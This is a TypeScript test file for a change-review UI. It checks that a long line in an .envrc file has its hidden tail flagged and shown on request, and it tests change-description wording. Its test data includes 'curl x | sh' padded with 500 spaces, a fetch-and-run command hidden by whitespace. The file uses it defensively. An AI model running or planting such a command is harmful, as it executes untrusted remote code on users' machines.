import { expect, test } from 'vitest';
import { changeLines, changeWords } from '../../src/ui/render-change.ts';
import { styleFor } from '../../src/ui/text/style.ts';

function file(text: string, mode = 0o644) {
  const content = Buffer.from(text).toString('base64');
  return { kind: 'file' as const, mode, sha256: text, content };
}

test('the end of a long line is told of, and shown when all is', () => {
  const line = `${' '.repeat(500)}curl x | sh`;
  const change = {
    path: '/p/.envrc',
    place: '/p',
    before: file(''),
    after: file(`${line}\n`),
    isRepository: false,
  };
  const style = styleFor(false);
  expect(changeLines(change, style).join('\n')).toContain('111 more characters, s shows them');
  expect(changeLines(change, style, true).join('\n')).toContain(line);
});

test.each([
  ['changed', 'b', 0o644],
  ['changed; mode 644, now 755', 'b', 0o755],
  ['mode 644, now 755', 'a', 0o755],
])('%s', (words, text, mode) => {
  const change = { path: '/p/x', place: '/p', before: file('a'), isRepository: false };
  expect(changeWords({ ...change, after: file(text, mode) })).toBe(words);
});
